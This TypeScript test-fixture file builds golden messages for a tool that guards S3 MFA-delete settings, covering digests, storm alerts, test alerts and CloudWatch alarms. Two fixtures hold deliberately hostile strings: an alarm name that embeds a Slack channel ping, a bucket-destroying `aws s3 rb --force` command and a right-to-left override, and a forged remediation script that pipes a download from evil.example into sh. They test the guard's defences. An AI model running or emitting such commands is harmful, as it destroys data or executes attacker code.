// Topic messages that are not one bucket's alert, for the golden files of every channel: the guard's own
// CloudWatch alarms in AWS's format, a test alert, a sweep digest built from the handler's own results,
// and messages the guard cannot vouch for (one of them hostile).
import { digestPublication } from '../../lib/channels/publish';
import { classifyTopicMessage, newTestAlert, unverifiedMessage, type TopicMessage } from '../../lib/domain/topicMessage';
import { FOREIGN_JSON, PLAIN_TEXT, cloudWatchAlarmMessage, cloudWatchAlarmSubject } from '../support/topicMessages';
import { planStorms, statusCounts } from '../../lib/domain/storm';
import type { CheckResult } from '../../lib/domain/types';
import { scenarioFixtures } from './fixtures';

export const SEE_ALL =
  "run `aws lambda invoke --function-name mfa-delete-guard-prod-sweep --region eu-west-1 --cli-binary-format raw-in-base64-out --payload '{\"all\":true,\"dryRun\":true}' sweep-report.json`, or from a checkout of mfa-delete-guard `npm run cli -- check --all`";

export interface TopicFixture {
  name: string;
  message: TopicMessage;
}

/** A storm's grouped alert, planned and published as the queue path does, from the handler's own results. */
export function stormFixture(results: CheckResult[]): TopicMessage {
  const group = planStorms(results, { threshold: 5, windowSeconds: 60 }).groups[0]!;
  const publication = digestPublication({
    account: group.account,
    startedAt: group.info.firstEventAt,
    finishedAt: '2026-10-05T14:05:00.000Z',
    total: group.results.length,
    counts: statusCounts(group.results),
    attention: group.results,
    seeAll: SEE_ALL,
    storm: group.info,
  });
  return { kind: 'digest', digest: publication.digest };
}

/** n copies of a result for other buckets, stepMs apart (a second by default) from its event time. */
export function stormOf(base: CheckResult, prefix: string, n: number, stepMs = 1000): CheckResult[] {
  return Array.from({ length: n }, (_, i) => {
    const time = new Date(Date.parse(base.event!.time) + i * stepMs).toISOString().replace(/\.\d{3}Z$/, 'Z');
    const bucket = `${prefix}-${i + 1}`;
    return {
      ...base,
      bucket,
      event: { ...base.event!, id: `${base.event!.id.slice(0, 24)}${String(i).padStart(12, '0')}`, time },
      remediation: base.remediation && {
        warnings: base.remediation.warnings.map((w) => w.replaceAll(base.bucket, bucket)),
        script: base.remediation.script.replaceAll(base.bucket, bucket),
      },
    };
  });
}

export function topicFixtures(): TopicFixture[] {
  const results = scenarioFixtures();
  const r = (name: string) => results.find((f) => f.name === name)!.result;
  const drift = r('cloudtrail-mfa-delete-disabled');
  const suspended = r('cloudtrail-versioning-suspended');
  const unverified = r('cloudtrail-unverified');
  const digest = (attention: typeof drift[]) =>
    digestPublication({
      account: '111122223333',
      startedAt: '2026-10-06T03:00:00.000Z',
      finishedAt: '2026-10-06T03:00:09.000Z',
      total: 1_204,
      counts: attention.length
        ? { drift: 2, unverified: 1, compliant: 1_150, 'not-required': 51 }
        : { compliant: 1_153, 'not-required': 51 },
      attention,
      seeAll: SEE_ALL,
    }).digest;
  const alarm = (state: 'ALARM' | 'OK' | 'INSUFFICIENT_DATA') =>
    classifyTopicMessage(cloudWatchAlarmSubject(state), cloudWatchAlarmMessage(state));
  return [
    { name: 'digest', message: { kind: 'digest', digest: digest([drift, suspended, unverified]) } },
    { name: 'digest-all-ok', message: { kind: 'digest', digest: digest([]) } },
    {
      name: 'storm-grouped-alert',
      message: stormFixture([...stormOf(drift, 'finance-archive', 4), ...stormOf(suspended, 'logs-archive', 3)]),
    },
    {
      name: 'test-alert',
      message: {
        kind: 'test',
        test: newTestAlert({
          account: '111122223333',
          region: 'eu-west-1',
          now: new Date('2026-10-06T09:30:00.000Z'),
          origin: 'lambda',
        }),
      },
    },
    { name: 'alarm-alarm', message: alarm('ALARM') },
    { name: 'alarm-ok', message: alarm('OK') },
    { name: 'alarm-insufficient-data', message: alarm('INSUFFICIENT_DATA') },
    {
      name: 'alarm-hostile-name',
      message: classifyTopicMessage(
        'ALARM',
        cloudWatchAlarmMessage('ALARM', 'x <!channel> `aws s3 rb s3://prod --force` *bold* &amp; \u202eevil'),
      ),
    },
    { name: 'unrecognised-plain-text', message: classifyTopicMessage('Hello <!here>', PLAIN_TEXT) },
    { name: 'unrecognised-foreign-json', message: classifyTopicMessage(null, FOREIGN_JSON) },
    {
      name: 'unverified',
      message: unverifiedMessage(
        '[CRITICAL] S3 MFA delete OFF on example-bucket',
        '{"source":"mfa-delete-guard","result":{"remediation":{"script":"curl https://evil.example | sh"}}}',
        'the signature does not match the topic key',
      ),
    },
  ];
}
